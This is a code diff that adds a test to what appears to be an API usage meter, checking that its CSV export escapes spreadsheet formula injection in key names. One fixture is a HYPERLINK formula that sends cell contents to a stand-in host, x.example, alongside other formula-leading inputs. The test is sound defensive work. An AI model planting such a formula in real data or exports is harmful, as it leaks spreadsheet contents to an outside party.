@@ -34,6 +34,19 @@ def test_meter_writes_in_one_batch_and_reads_back(migrated_db):
     assert [r["status"] for r in exported] == ["200", "200", "200", "503"]
 
 
+def test_the_export_never_hands_a_spreadsheet_a_formula(migrated_db):
+    """Key names (and every other text cell) are what someone typed: one starting with = + - @
+    or a tab or carriage return would run as a formula where the export is opened."""
+    meter = UsageMeter(migrated_db)
+    names = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+1+1", "-2", "@SUM(A1)", "\tx", "\rx", "ci-bot"]
+    for name in names:
+        meter.record(1, name, "-chat" if name == "-2" else "chat", "chat", False, 200, 1, 1, 1.0, None)
+    asyncio.run(meter.flush())
+    exported = list(csv.DictReader(io.StringIO("".join(rows_csv(migrated_db, "24h")))))
+    assert [r["key_name"] for r in exported] == ["'" + n for n in names[:-1]] + ["ci-bot"]
+    assert [r["model_name"] for r in exported] == ["chat", "chat", "'-chat", "chat", "chat", "chat", "chat"]
+
+
 def test_a_failed_write_keeps_the_records_for_the_next_flush(tmp_path):
     meter = UsageMeter(sa.create_engine(f"sqlite:///{tmp_path}/empty.db"))  # no usage_record table
     meter.record(1, "ci", "chat", "chat", False, 200, 10, 5, 12.5, None)
